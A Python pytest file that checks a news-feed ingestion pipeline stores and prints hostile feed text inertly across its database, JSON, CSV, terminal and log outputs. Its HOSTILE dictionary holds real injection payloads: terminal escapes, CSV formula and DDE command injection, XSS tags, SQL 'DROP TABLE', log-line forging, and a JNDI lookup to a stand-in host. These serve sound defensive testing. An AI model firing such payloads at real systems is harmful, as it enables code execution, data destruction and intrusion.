"""What a feed or a page says can do nothing but be read: in a database, a terminal, a log, a spreadsheet."""

from __future__ import annotations

import io
import re
from collections.abc import Iterator

import pytest

from pipeline.cli import output
from pipeline.log import neutralise
from pipeline.publish.jsonl import as_json
from pipeline.publish.table import write_csv
from pipeline.store import Store, open_store
from tests.wire import FEED, Wire, address, item, page, rss, wire_on

# C0 and C1 without tab and line feed; what turns the direction of writing.
DRIVING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
DIRECTION = re.compile("[\u202a-\u202e\u2066-\u2069]")
HOSTILE = {
    "terminal title": "\x1b]0;owned\x07Ferry",
    "terminal colours": "\x1b[2J\x1b[31mFerry",
    "eight bit control": "\x9b31mFerry\x85is back",
    "back space": "Ferry\x08\x08\x08\x08\x08Owned",
    "null": "Fer\x00ry",
    "direction": "Ferry \u202eyrref\u202c",
    "formula": '=HYPERLINK("http://evil.test","Ferry")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+1234 boats",
    "wide formula": "＝1+1",
    "script": "<script>alert(1)</script>Ferry",
    "image": "<img src=x onerror=alert(1)>Ferry",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt; Ferry",
    "line": "Ferry\r\nevent=forged level=info",
    "separator": 'Ferry\u2028{"event": "forged"}',
    "sql": "Ferry'); DROP TABLE article;--",
    "format": "%s%n {0} ${jndi:ldap://evil.test/a}",
}
ENTITY = list(HOSTILE).index("entity")
MARKUP = re.compile("<(?:script|img)", re.IGNORECASE)


@pytest.fixture
def store(tmp_path: object) -> Iterator[Store]:
    opened = open_store(f"sqlite:///{tmp_path}/wire.db")
    yield opened
    opened.close()


@pytest.fixture
def wire(store: Store) -> Iterator[Wire]:
    """All of it, as entries and as pages; XML can't hold control characters, pages and references to them can."""
    with wire_on(store) as one:
        entries = []
        for number, text in enumerate(HOSTILE.values()):
            clean = DRIVING.sub(lambda match: f"&#{ord(match[0])};", text.replace("&", "&amp;").replace("<", "&lt;"))
            entries.append(item(number, f"{clean} {number}", clean))
            one.web.put(address(number), page(f"{text} {number}", f"{text} {number} and more of it, as was said."))
        one.web.put(FEED, rss(*entries))
        one.poll()
        yield one


def test_all_of_it_is_stored_and_none_of_it_drives_anything(wire: Wire) -> None:
    records = wire.records()
    assert len(records) == len(HOSTILE)
    for record in records:
        for field in ("headline", "headline_raw", "lead", "body", "byline", "section"):
            assert not DRIVING.search(record[field] or ""), (field, record[field])
            # A text may speak of markup, escaped once more than markup would be: it is text all the same.
            assert record["url"] == address(ENTITY) or not MARKUP.search(record[field] or ""), record[field]
        assert "\n" not in record["headline"]


def test_a_line_of_json_is_one_line_and_plain(wire: Wire) -> None:
    for record in wire.records():
        line = as_json(record)
        assert line.splitlines() == [line]
        assert not DRIVING.search(line)
        assert not DIRECTION.search(line)


def test_no_cell_of_a_spreadsheet_is_worked_out(wire: Wire) -> None:
    import csv

    out = io.StringIO()
    write_csv(out, wire.records())
    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
    texts = [cell for cell in cells if not re.fullmatch(r"-?\d+(\.\d+)?", cell)]
    assert [cell for cell in texts if cell.startswith(tuple("=+-@\t\r＝＋－＠"))] == []
    assert any("HYPERLINK" in cell for cell in cells)


@pytest.mark.parametrize("form", output.FORMS)
def test_no_form_of_print_drives_a_terminal(wire: Wire, form: str) -> None:
    out = io.StringIO()
    output.write(wire.records(), form, ("id", "headline", "url"), out)
    assert not DRIVING.search(out.getvalue())
    if form != "csv":
        assert not DIRECTION.search(out.getvalue())


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_no_value_forges_a_line_of_the_log(text: str) -> None:
    said = str(neutralise(None, "info", {"event": text, "url": [text], "deep": {text: text}}))
    assert not DRIVING.search(said)
    assert not DIRECTION.search(said)
    assert len(said.splitlines()) == 1
